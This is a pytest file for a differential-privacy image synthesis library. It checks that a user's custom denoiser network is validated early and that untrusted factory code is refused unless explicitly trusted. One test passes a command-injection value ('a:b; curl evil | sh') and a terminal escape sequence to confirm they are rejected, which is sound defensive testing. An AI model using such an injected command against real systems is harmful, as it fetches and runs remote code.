"""`--network.factory`: a user's denoiser is refused before anything is spent, or lasts to the end of the run."""

from __future__ import annotations

import copy
import pickle
import shutil
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import numpy as np
import pytest
import torch
from torch import nn

import raysyn
from raysyn.methods import catalogue
from raysyn.methods.own_network import check_denoiser, refuse_unnamed
from raysyn.methods.synthesis import draw_chunk
from raysyn.models.denoiser import OwnDenoiser, new_denoiser
from raysyn.models.unet import UNet, UNetConfig
from raysyn.train.diffusion import DiffusionTask
from raysyn.train.samplers import SamplerConfig

NET = """
import torch
from torch import nn
from myparts import WIDTH

class Net(nn.Module):
    def __init__(self, channels, classes):
        super().__init__()
        self.label, self.time = nn.Embedding(classes + 1, WIDTH), nn.Linear(1, WIDTH)
        self.stem, self.norm = nn.Conv2d(channels, WIDTH, 3, padding=1), nn.GroupNorm(2, WIDTH)
        self.head = nn.Conv2d(WIDTH, channels, 3, padding=1)
        self.waves = torch.randn(WIDTH)  # no weight, and yet not to be another one elsewhere

    def forward(self, x, c_noise, labels):
        told = self.time(c_noise[:, None]) + self.label(labels) + self.waves.to(x.device)
        return self.head(nn.functional.silu(self.norm(self.stem(x)) + told[:, :, None, None]))

def build(channels, size, classes):
    return Net(channels, classes)
"""
SHAPE, TASK, SAMPLER = (8, 8, 1), DiffusionTask(classes=10), SamplerConfig(steps=2)


@pytest.fixture
def start(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """The folder that a command starts in; what is imported from it is forgotten afterwards."""
    (tmp_path / "start").mkdir()
    monkeypatch.chdir(tmp_path / "start")
    monkeypatch.setattr(sys, "path", list(sys.path))
    before = set(sys.modules)
    write(tmp_path / "start")
    yield tmp_path / "start"
    forget(before)


def write(folder: Path, net: str = NET, width: int = 4) -> None:
    # Python takes a file of the same second and size for the one that it has compiled.
    shutil.rmtree(folder / "__pycache__", ignore_errors=True)
    (folder / "mynets.py").write_text(net)
    (folder / "myparts.py").write_text(f"WIDTH = {width}\n")


def forget(before: set[str]) -> None:
    for name in {"mynets", "myparts"} - before:
        sys.modules.pop(name, None)


def denoiser(seed: int = 0) -> OwnDenoiser:
    torch.manual_seed(seed)
    found = new_denoiser(UNetConfig(factory="mynets:build"), 1, (8, 8), 10)
    assert isinstance(found, OwnDenoiser)
    return found


def flags(out: Path, **more: Any) -> dict[str, Any]:
    """A small run of dp_feta without Ray."""
    small: dict[str, Any] = {
        "data": {"limit": 200}, "central": {"count": 10}, "warmup": {"iterations": 3}, "synthetic": 20,
        "finetune": {"batch_size": 32, "epochs": 1}, "sampler": {"steps": 2}, "quiet": True, "out": out,
        "eval": {"classifiers": (), "feature_epochs": 0}, "on": {"address": "here"},
    }  # fmt: skip
    return small | {"network": {"factory": "mynets:build"}} | more


def test_a_users_network_makes_a_run_and_an_edited_one_is_not_taken_for_it(start: Path, tmp_path: Path) -> None:
    first = raysyn.run("dp_feta", **flags(tmp_path / "run"))
    assert first.certificate["guarantee"] == "dp" and len(first.images) == 20
    # The same network judged otherwise is the same run.
    assert raysyn.run("dp_feta", **flags(tmp_path / "run")).certificate == first.certificate
    # Of the same shapes, so that its weights would be taken.
    write(start, NET.replace("silu", "relu"))
    forget(set())
    with pytest.raises(ValueError, match="network_source"):
        raysyn.run("dp_feta", **flags(tmp_path / "run"))


def test_a_network_that_a_folder_names_is_run_only_for_those_who_name_it_too(start: Path, tmp_path: Path) -> None:
    out = tmp_path / "run"
    raysyn.run("dp_feta", **flags(out))
    forget(set())
    ran = tmp_path / "ran"
    write(start, f"open({str(ran)!r}, 'w').close()\n" + NET)  # somebody else's, of the same name
    at, new = {"address": "here"}, tmp_path / "new"
    commands: dict[str, Callable[..., Any]] = {
        "draw": lambda **more: raysyn.draw(str(out), out=str(new), synthetic=5, on=at, quiet=True, **more),
        "attack": lambda **more: raysyn.attack(str(out), shadow_runs=6, on=at, quiet=True, dry_run=True, **more),
        "audit": lambda **more: raysyn.audit("run", str(out), games=1024, **more),
    }
    for name, asked in commands.items():
        with pytest.raises(ValueError, match=r"names code, network\.factory mynets:build, which is not run") as refused:
            asked()
        assert "\n" not in str(refused.value) and not ran.exists(), name
        with pytest.raises(ValueError, match=r"mynets:build, and trust is mynets:other: look at what"):
            asked(trust="mynets:other")
        assert not ran.exists() and not new.exists(), name
    write(start)
    drawn = raysyn.draw(str(out), out=str(new), synthetic=5, trust="mynets:build", on=at, quiet=True)
    assert len(drawn.images) == 5
    for hostile in ("a:b; curl evil | sh", "a:b\n\x1b[2J", "a", ""):
        made = SimpleNamespace(network=SimpleNamespace(factory=hostile))
        with pytest.raises(ValueError, match="which is no function's name") as refused:
            refuse_unnamed("run", made, hostile)
        assert str(refused.value).isprintable()
    with pytest.raises(ValueError, match="trust is mynets:build, but run has no network of its own"):
        refuse_unnamed("run", catalogue.find("dp_feta").presets()["quick"], "mynets:build")


def test_a_users_network_may_stand_in_privimage_too_also_before_it_knows_classes(start: Path, tmp_path: Path) -> None:
    small = flags(tmp_path / "run", pretraining="none", central={"count": 10, "conditional": False})
    result = raysyn.run("privimage", **small)
    assert result.certificate["guarantee"] == "dp" and len(result.images) == 20
    write(start, NET.replace("self.label", "self.names"))
    forget(set())
    # Central images of all classes together are learned from in part, which asks for no table of labels.
    assert len(raysyn.run("privimage", **small | {"out": tmp_path / "central"}).images) == 20
    untold = {"pretraining": "selected", "semantic": {"conditional": False}, "central": {"count": 0}}
    with pytest.raises(ValueError, match=r"no nn\.Embedding of 11 rows called label") as refused:
        raysyn.run("privimage", **small | untold | {"out": tmp_path / "other"})
    assert "\n" not in str(refused.value) and not (tmp_path / "other").exists()
    with pytest.raises(ValueError, match=r"network\.factory is mynets:build, but generator is gan"):
        raysyn.run("privimage", **small | {"generator": "gan", "central": {"count": 0}})


@pytest.mark.parametrize(
    ("edit", "words"),
    [
        (("nn.GroupNorm(2, WIDTH)", "nn.BatchNorm2d(WIDTH)"), "layer norm is BatchNorm2d, which mixes images"),
        (("nn.Conv2d(channels", "nn.ConvTranspose2d(channels"), "layer stem is ConvTranspose2d"),
        (("nn.GroupNorm(2, WIDTH)", "nn.Dropout(0.5)"), "layer norm is Dropout with p=0.5"),
        (("def forward(self, x, c_noise, labels)", "def forward(self, x)"), "cannot be called with noisy images (4, 1"),
        (("self.head(", "self.stem("), "cannot be called with noisy images (4, 1, 8, 8), noise levels (4,) and labels"),
        (("return self.head(", "return (1, "), "with something of type tuple: return a tensor of the images' shape"),
        (("WIDTH, channels, 3, padding=1", "WIDTH, channels, 3"), "with (4, 1, 6, 6): return a tensor of the images'"),
        (("classes + 1, WIDTH", "classes, WIDTH"), "mynets.py, line 15, raised IndexError: index out of range"),
        (("return self.head(", "return torch.inf * self.head("), "no finite number"),
        (("return self.head(", "return torch.rand(()) * self.head("), "differently each time: leave out dropout"),
        (("return self.head(", "self.label.padding.add_(1); return self.head("), "changes its own state when"),
        (("return self.head(", "return x.mean(0) + self.head("), "differently when others are in the batch"),
        (("self.waves.to(x.device)", "self.waves"), "cannot be called on another device than the CPU"),
        (
            ("told = self.time(c_noise[:, None])", "told = c_noise[:, None] @ self.time.weight.T + self.time.bias"),
            "uses the weights of a layer without calling that layer",
        ),
        (("return Net(channels, classes)", "return nn.Identity()"), "has no parameters that learn"),
        (("def build(channels, size, classes)", "def build(channels, classes)"), "(channels, (height, width), cl"),
        (
            ("return Net(channels, classes)", "import random; torch.manual_seed(random.getrandbits(32)); "
             "return Net(channels, classes)"),
            "begins with other weights each time",
        ),
    ],
)  # fmt: skip
def test_what_would_fail_later_is_refused_in_one_sentence_before_anything_is_spent(
    start: Path, tmp_path: Path, edit: tuple[str, str], words: str
) -> None:
    assert edit[0] in NET
    # A buffer, as batch norm has them.
    keeps = "  # no weight", "; self.label.register_buffer('padding', self.waves * 0)  # no weight"
    write(start, NET.replace(*edit).replace(*keeps))
    with pytest.raises(ValueError) as refused:
        raysyn.run("dp_feta", **flags(tmp_path / "run"))
    said = str(refused.value)
    assert said.startswith("network.factory mynets:build") and words in said and "\n" not in said, said
    assert not (tmp_path / "run").exists()


ATTENTION = "self.waves = ", "self.attention = nn.Conv2d(WIDTH, WIDTH, 1); self.waves = "
ATTENDS = "self.head(nn.functional.silu(", "self.head(self.attention(nn.functional.silu("


@pytest.mark.parametrize(
    ("layers", "edits", "words"),
    [
        ("attention", [], "has no attention, by the name"),
        ("attention", [ATTENTION, ("self.stem", "self.first")], "has no convolution called stem"),
        ("embedding", [("self.label", "self.names"), ("self.time", "self.when")], "has no layer whose name begins"),
        ("embedding", [("self.stem,", "self.label.requires_grad_(False); self.time.requires_grad_(False); self.stem,")],
         "none of these layers learns"),
        ("lora:2", [("nn.Conv2d(", "type('Own', (nn.Conv2d,), {})(")], "no attention and no nn.Conv2d that learns"),
        ("lora:2", [("self.waves = ", "self.twin = self.stem; self.waves = ")], "answers otherwise once the updates"),
        ("lora:2", [("return self.head(", "return self.head.weight.mean() + self.head(")], "has no attribute 'weight'"),
    ],
)  # fmt: skip
def test_few_weights_that_a_users_network_cannot_have_cost_one_sentence(
    start: Path, layers: str, edits: list[tuple[str, str]], words: str
) -> None:
    net = NET
    for edit in edits:
        assert edit[0] in net
        net = net.replace(*edit)
    write(start, net)
    with pytest.raises(ValueError) as refused:
        check_denoiser(denoiser(), SHAPE, TASK, SAMPLER, layers)
    said = str(refused.value)
    assert said.startswith("network.factory mynets:build") and words in said and "\n" not in said, said


@pytest.mark.parametrize("layers", ["attention", "embedding", "lora:2"])
def test_few_weights_of_a_users_network_can_be_trained(start: Path, layers: str) -> None:
    write(start, NET.replace(*ATTENTION).replace(*ATTENDS).replace("None, None])", "None, None]))"))
    check_denoiser(denoiser(), SHAPE, TASK, SAMPLER, layers)


def test_updates_of_a_users_network_learn_in_a_run_and_are_nowhere_in_what_it_leaves(
    start: Path, tmp_path: Path
) -> None:
    small = flags(tmp_path / "run", finetune={"batch_size": 64, "epochs": 1, "layers": "lora:2", "max_grad_norm": 0.3})
    assert len(raysyn.run("dp_feta", **small).images) == 20
    [stored] = (tmp_path / "run/internal/stages").rglob("finetune*.pt")
    assert torch.load(stored, weights_only=True)["ema"].keys() == denoiser().state_dict().keys()


def test_networks_of_raysyn_are_asked_before_the_run_whether_dp_sgd_can_train_them(
    start: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A layer without per-image gradients, put into each network that DP-SGD trains, is found without a run folder."""
    from raysyn.models import dcgan, private_discriminator, teacher, unet

    for method, network, more in (
        ("dp_feta", unet.UNet, {}),
        ("privimage", unet.UNet, {"pretraining": "none"}),
        ("privimage", private_discriminator.PrivateDiscriminator, {"pretraining": "none", "generator": "gan"}),
        ("dp_imgsyn", teacher.Teacher, {}),
        ("pigan", dcgan.Discriminator, {"model": "dpgan"}),
    ):
        with monkeypatch.context() as patch:
            make = network.__init__

            def worse(self: nn.Module, *args: Any, make: Any = make, **named: Any) -> None:
                make(self, *args, **named)
                self.extra = nn.PReLU()

            patch.setattr(network, "__init__", worse)
            with pytest.raises(ValueError, match="layer extra is PReLU"):
                raysyn.run(method, out=tmp_path / "run", quiet=True, on={"address": "here"}, **more)
        assert not (tmp_path / "run").exists(), method


def test_it_travels_without_its_class_and_with_all_that_it_was_built_with(start: Path) -> None:
    first = denoiser()
    with torch.no_grad():
        first.network.stem.weight.zero_()  # type: ignore[union-attr, operator]
    packed = pickle.dumps(first.eval())
    copied = copy.deepcopy(first)
    forget(set())
    before = torch.random.get_rng_state()
    other = pickle.loads(packed)
    assert torch.equal(torch.random.get_rng_state(), before), "random numbers of others stay as they were"
    assert not other.training and other.classes == 10
    for one in (other, copied):
        assert all(torch.equal(value, one.state_dict()[key]) for key, value in first.state_dict().items())
        assert torch.equal(one.network.waves, first.network.waves)  # type: ignore[arg-type]
    assert not torch.equal(denoiser(1).network.waves, first.network.waves), "the seed decides"  # type: ignore[arg-type]


def test_without_a_factory_it_is_the_u_net_with_the_same_first_weights() -> None:
    config = UNetConfig(width=8, multipliers=(1,), attention=())
    torch.manual_seed(3)
    one = UNet(config, 1, (8, 8), 10).state_dict()
    torch.manual_seed(3)
    other = new_denoiser(config, 1, (8, 8), 10)
    assert all(torch.equal(value, other.state_dict()[key]) for key, value in one.items())
    assert check_denoiser(other, SHAPE, TASK, SAMPLER) == {}


def test_a_layer_that_only_the_loop_can_serve_is_no_mistake(start: Path) -> None:
    write(start, NET.replace("self.norm(self.stem(x))", "self.norm(self.norm(self.stem(x)))"))
    assert set(check_denoiser(denoiser(), SHAPE, TASK, SAMPLER)) == {"network_source"}


def test_a_users_network_draws_in_workers_that_do_not_know_its_folder_on_ray(
    start: Path, ray_session: None, tmp_path: Path
) -> None:
    chunk, shared = (0, np.arange(4)), (denoiser(), SAMPLER, SHAPE)
    with raysyn.connect(storage=str(tmp_path / "storage"), workers=1) as compute:
        (drawn,) = compute.map(draw_chunk, [chunk], name="draw", shared=shared)
    # The same weights, and the same numbers beside them, but perhaps not the same number of threads.
    assert (drawn.int() - draw_chunk(chunk, shared).int()).abs().max() <= 1


@pytest.mark.slow
@pytest.mark.timeout(400)
def test_a_users_network_is_trained_and_drawn_with_by_workers_on_ray(
    start: Path, ray_session: None, tmp_path: Path
) -> None:
    result = raysyn.run("dp_feta", **flags(tmp_path / "run", on={"workers": 1}))
    assert result.report["environment"]["workers"] == 1 and len(result.images) == 20
    assert len(np.unique(result.images.images_NHWC)) > 1
